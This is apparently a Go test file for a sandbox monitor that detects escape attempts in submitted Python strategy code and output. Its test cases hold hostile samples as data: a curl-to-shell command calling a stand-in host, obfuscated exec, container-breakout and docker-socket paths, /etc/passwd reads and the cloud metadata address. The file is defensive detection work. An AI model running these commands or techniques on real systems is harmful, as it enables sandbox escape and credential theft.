package monitor

import (
	"testing"
	"time"
)

func TestAnalyzeCode(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name         string
		code         string
		wantMinCount int // minimum number of detections
		wantPattern  string
	}{
		{"subprocess", `import subprocess`, 1, "process_spawn"},
		{"os.system", `os.system("curl evil.sh | sh")`, 1, "process_spawn"},
		{"socket import", `import socket`, 1, "network_access"},
		{"requests import", `from requests import get`, 1, "network_access"},
		{"ctypes", `import ctypes`, 1, "native_code"},
		{"obfuscated exec", `exec(base64.b64decode(payload))`, 1, "dynamic_import"},
		{"dunder import", `m = __import__("o" + "s")`, 1, "dynamic_import"},
		{"subclasses walk", `().__class__.__base__.__subclasses__()`, 1, "introspection_escape"},
		{"proc_self_root", `f = open("/proc/self/root/etc/passwd")`, 1, "proc_self_access"},
		{"cgroup breakout", `open("/sys/fs/cgroup/notify_on_release")`, 1, "container_breakout"},
		{"docker socket", `open("/var/run/docker.sock")`, 1, "host_mount_access"},
		{"passwd", `open("/etc/passwd").read()`, 1, "sensitive_file"},
		{"metadata service", `url = "http://169.254.169.254/latest/meta-data/"`, 1, "metadata_service"},
		{"crypto miner", `pool = "stratum+tcp://pool.mining.com"`, 1, "crypto_miner"},
		{"clean strategy", "import pandas as pd\ndef run_strategy(df):\n    return []", 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.AnalyzeCode(tt.code)
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantMinCount == 0 && len(dets) != 0 {
				t.Errorf("clean code flagged: %v", dets)
			}
			if tt.wantPattern != "" {
				found := false
				for _, det := range dets {
					if det.Pattern == tt.wantPattern {
						found = true
						break
					}
				}
				if !found {
					t.Errorf("pattern %q not found in detections: %v", tt.wantPattern, dets)
				}
			}
		})
	}
}

func TestAnalyzeCode_LineNumbers(t *testing.T) {
	d := NewEscapeDetector()
	dets := d.AnalyzeCode("def run_strategy(df):\n    import ctypes\n    return []")
	if len(dets) != 1 {
		t.Fatalf("got %d detections, want 1", len(dets))
	}
	if dets[0].Line != 2 {
		t.Errorf("Line = %d, want 2", dets[0].Line)
	}
}

func TestHasCritical(t *testing.T) {
	d := NewEscapeDetector()
	if HasCritical(d.AnalyzeCode(`import socket`)) {
		t.Error("network import is high, not critical")
	}
	if !HasCritical(d.AnalyzeCode(`import subprocess`)) {
		t.Error("subprocess must be critical")
	}
	if HasCritical(nil) {
		t.Error("no detections is not critical")
	}
}

func TestAnalyzeOutput(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name    string
		output  string
		wantLen int
	}{
		{"clean", "rows 500\nsignal: long", 0},
		{"passwd leak", "root:x:0:0:root:/root:/bin/bash", 1},
		{"docker socket", "found /var/run/docker.sock", 1},
		{"kernel", "Linux version 6.1.0", 1},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.AnalyzeOutput(tt.output)
			if len(dets) != tt.wantLen {
				t.Errorf("got %d detections, want %d: %v", len(dets), tt.wantLen, dets)
			}
		})
	}
}

func TestMetrics_Record(t *testing.T) {
	m := NewMetrics()

	m.RecordSubmission("python", 120, 4096)
	m.RecordFinished("python", "failed", "execution_timeout")
	m.RecordExecution("python", "docker", "execution_timeout", 2*time.Second)
	m.RecordStage("sandbox", time.Second)
	m.RecordSecurityEvent("process_spawn")

	families, err := m.Registry.Gather()
	if err != nil {
		t.Fatalf("Gather: %v", err)
	}

	counters := make(map[string]float64)
	for _, f := range families {
		for _, metric := range f.GetMetric() {
			if c := metric.GetCounter(); c != nil {
				counters[f.GetName()] += c.GetValue()
			}
		}
	}

	for _, name := range []string{
		"strategy_jobs_submitted_total",
		"strategy_jobs_finished_total",
		"strategy_sandbox_executions_total",
		"strategy_security_events_total",
	} {
		if counters[name] != 1 {
			t.Errorf("%s = %v, want 1", name, counters[name])
		}
	}
}
